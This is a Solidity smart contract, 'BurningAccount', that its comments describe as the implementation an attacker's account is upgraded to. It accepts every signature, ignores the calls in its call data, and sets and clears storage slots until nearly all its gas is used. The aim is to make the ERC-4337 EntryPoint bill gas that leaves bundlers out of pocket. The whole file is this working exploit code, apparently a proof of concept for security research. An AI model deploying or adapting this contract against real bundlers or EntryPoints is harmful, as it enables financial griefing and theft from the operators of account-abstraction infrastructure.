// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/**
 * What an attacker's account is upgraded to after the signature. It takes every signature, does not make the calls in its call data,
 * and sets and clears storage until its gas limit is nearly used: the EntryPoint counts that gas, and the chain returns a fifth of the
 * transaction's to the bundler.
 */
contract BurningAccount {
    bytes4 private constant PROXIABLE_UUID = 0x52d1902d;
    bytes32 private constant IMPLEMENTATION_SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes4 private constant VALIDATE_06 = 0x3a871cdd;
    bytes4 private constant VALIDATE_07 = 0x19822f7c;
    /// Sets and clears one slot, and returns from the proxy.
    uint256 private constant LEFT = 30_000;
    /// The EntryPoint counts what it does itself in the verification limit: most of it writes the nonce.
    uint256 private constant LEFT_OF_VALIDATION = 55_000;
    /// In 0.6 the paymaster's validation too.
    uint256 private constant LEFT_OF_VALIDATION_06 = 120_000;
    /// Slots that no account uses.
    uint256 private constant FIRST_SLOT = 0x5eed0000;
    /// What a new slot costs more on this chain than on mainnet.
    uint256 private immutable MORE;

    constructor(uint256 more) {
        MORE = more;
    }

    fallback() external payable {
        if (msg.sig == PROXIABLE_UUID) {
            assembly {
                mstore(0, IMPLEMENTATION_SLOT)
                return(0, 32)
            }
        }
        uint256 left = LEFT;
        if (msg.sig == VALIDATE_06) left = LEFT_OF_VALIDATION_06;
        if (msg.sig == VALIDATE_07) left = LEFT_OF_VALIDATION;
        left += MORE;
        assembly {
            // Clears the slot before: the compiler leaves out a write that another one follows at once.
            for { let slot := FIRST_SLOT } gt(gas(), left) { slot := add(slot, 1) } {
                sstore(slot, 1)
                sstore(sub(slot, 1), 0)
            }
            mstore(0, 0)
            return(0, 32)
        }
    }
}
